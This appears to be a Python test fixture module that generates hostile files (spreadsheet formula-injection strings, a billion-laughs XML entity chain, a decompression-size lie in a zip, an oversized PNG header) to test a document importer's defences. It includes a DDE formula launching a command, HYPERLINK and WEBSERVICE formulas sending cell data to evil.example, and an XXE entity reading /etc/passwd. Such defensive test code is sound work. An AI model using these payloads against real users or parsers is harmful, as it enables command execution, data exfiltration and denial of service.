"""Hostile files: archives, workbooks, templates and names made to harm whoever opens them."""

import io
import struct
import zipfile
import zlib
from importlib.resources import files

import xlsxwriter

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"итог")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
)
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]>' % b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
EXTERNAL = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SHEET = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'%s<sheetData><row r="1"><c r="%s" t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>'
)


def packed(members, compression=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def book(*rows, plain=True):
    """Return a workbook with some rows; `plain` writes texts as texts."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": not plain}) as made:
        sheet = made.add_worksheet("Лист")
        for number, row in enumerate(rows):
            for place, value in enumerate(row):
                sheet.write(number, place, value)
    return stream.getvalue()


def with_part(data, name, content):
    """Return a container with one part replaced or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename != name:
                target.writestr(member, source.read(member))
        target.writestr(name, content)
    return stream.getvalue()


def sheet(doctype=b"", dimension=b"", cell=b"A1", text=b"x"):
    return with_part(
        book(["a"]), "xl/worksheets/sheet1.xml", b'<?xml version="1.0"?>' + doctype + SHEET % (dimension, cell, text)
    )


def many_members(count):
    return packed({f"{number}.csv": b"" for number in range(count)}, zipfile.ZIP_STORED)


def lying_member():
    """Return an archive whose directory says that a member is a hundred bytes long; it is a megabyte."""
    data = bytearray(packed({"a.csv": b"0" * 1_000_000}))
    size = (1_000_000).to_bytes(4, "little")
    at = -1
    while (at := data.find(size, at + 1)) >= 0:
        data[at : at + 4] = (100).to_bytes(4, "little")
    return bytes(data)


def huge_picture():
    """Return a PNG of a few hundred bytes that says it is 60,000 by 60,000 points."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 100_000)) + chunk(b"IEND", b"")


def document(body):
    """Return a template of ours whose body holds nothing but a document type and a text."""
    doctype, text = body
    content = (
        b'<?xml version="1.0"?>%s<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
    )
    ours = files("report_templates").joinpath("school_note.docx").read_bytes()
    return with_part(ours, "word/document.xml", content % (doctype, text))
